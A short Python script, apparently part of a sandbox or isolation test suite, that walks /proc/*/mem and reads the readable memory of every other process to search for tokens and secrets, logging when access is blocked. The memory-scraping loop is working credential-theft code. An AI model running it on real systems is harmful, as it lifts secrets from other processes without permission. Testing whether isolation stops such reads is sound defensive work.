# Tries: to find a token in the memory of process 1, which our own process became.
import glob
from attack import *
for path in glob.glob("/proc/[0-9]*/mem"):
    pid = path.split("/")[2]
    if pid == str(os.getpid()):
        continue
    data = b""
    try:
        with open(path, "rb", buffering=0) as memory:
            for line in open("/proc/%s/maps" % pid):
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                if "r" in line.split()[1] and high - low < 64 << 20:
                    try:
                        memory.seek(low)
                        data += memory.read(high - low)
                    except (OSError, ValueError, OverflowError):
                        pass
        look_for_secret(path, data)
    except OSError as e:
        held(path, repr(e))
